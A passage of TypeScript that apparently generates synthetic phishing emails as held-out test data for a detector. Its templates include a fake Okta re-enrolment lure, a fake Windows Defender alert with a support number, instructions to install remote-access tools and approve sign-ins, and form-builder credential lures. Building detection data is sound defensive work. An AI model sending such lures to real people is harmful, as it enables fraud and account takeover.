          `Your ${s.company} administrator has reset your Okta Verify enrolment because a new device was issued to you.`,
          'To keep access to Outlook, Teams and Workday, set up Okta Verify within 24 hours:',
          '',
          `https://${tenant}/signin/enroll?token=${s.token(24)}`,
          '',
          'If you did not receive a new device, contact your help desk.',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'tech-support',
    template: 'defender-threats-call',
    write: (s) => {
      const phone = s.phone();
      return {
        headers: s.headers('Windows Defender', `alert@${s.host('defender', 'alert')}`),
        subject: `⚠ ${2 + s.below(6)} threats detected – your protection has expired`,
        html: page(
          [
            '<b style="color:#c00">Your device is at risk</b>',
            `Windows Defender found ${2 + s.below(6)} threats (Trojan:Win32/${s.pick(['Wacatac', 'Emotet', 'Spyware.Banker'])}) on your device. Your subscription expired on ${s.pick(['10/30/2026', '10/31/2026'])}, so they could not be removed.`,
            `Call Microsoft certified support now: <b>${phone}</b> (toll free, 24/7).`,
            'Do not shut down or restart your computer before calling, as this may cause data loss.',
          ],
          undefined,
          'Microsoft Windows Defender Security Center',
        ),
      };
    },
  },
  {
    kind: 'tech-support',
    template: 'remote-access-instructions',
    write: (s) => ({
      headers: s.headers('IT Support', `it.support@${lookalike(s, 'corp.example')}`),
      subject: `Ticket #${s.digits(6)}: remote session for the spam issue`,
      text: [
        `Hi ${s.victim.first},`,
        '',
        'Following our call about the spam in your mailbox, please let us connect to fix the filter:',
        '',
        '1. Press Ctrl + Windows + Q to open Quick Assist (or download the remote tool from',
        `   https://${s.host('remote', 'support')}/download/${s.pick(['AnyDesk', 'QuickSupport'])}.exe)`,
        `2. Give the engineer the security code they read to you. Our number is ${s.phone()}.`,
        '3. Stay at your desk until the session ends, and approve any sign-in request you see.',
        '',
        'IT Support',
      ].join('\n'),
    }),
  },
  {
    kind: 'service-abuse',
    template: 'form-builder-purchase-order',
    write: (s) => {
      const site = s.borrowed();
      const [forms, domain] = s.pick([
        ['FormCraft', 'formcraft.example'],
        ['SurveyNest', 'surveynest.example'],
      ] as const);
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first}@${site}`.toLowerCase(), [
          authResults(site, ['pass', 'pass', 'pass']),
        ]),
        subject: `Purchase order ${s.digits(5)} – secure view`,
        html: page(
          [
            `Hello ${s.victim.first},`,
            `We have shared a purchase order with you through ${forms}. Open it, sign in with your business email to verify, and confirm delivery dates.`,
            `Regards,<br>${s.stranger.name}`,
          ],
          ['Open purchase order', `https://${domain}/r/${s.token(11)}`],
        ),
      };
    },
  },
  {
    kind: 'service-abuse',
    template: 'hosted-page-proposal',
    write: (s) => {
      const [service, domain] = s.pick([
        ['PageCraft', 'pagecraft.example'],
        ['NoteSpace', 'notespace.example'],
        ['SiteFlow', 'siteflow.example'],
      ] as const);
      return {
        headers: s.headers(`${s.stranger.name} (via ${service})`, `notify@${domain}`, [
          authResults(domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `${s.stranger.name} invited you to view "Proposal – ${s.company}"`,
        text: `${s.stranger.name} invited you to view a page on ${service}.\n\n"Proposal – ${s.company}"\n\nOpen: https://${s.token(10)}.${domain}/proposal\n\n${service} · You received this email because someone shared a page with ${s.victim.email}.`,
      };
    },
  },
];

export const UNSEEN_4_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_4_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing4(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fillEncoded(ENTRIES, perTemplate, seed, seededRandom, 4_000_000);
}
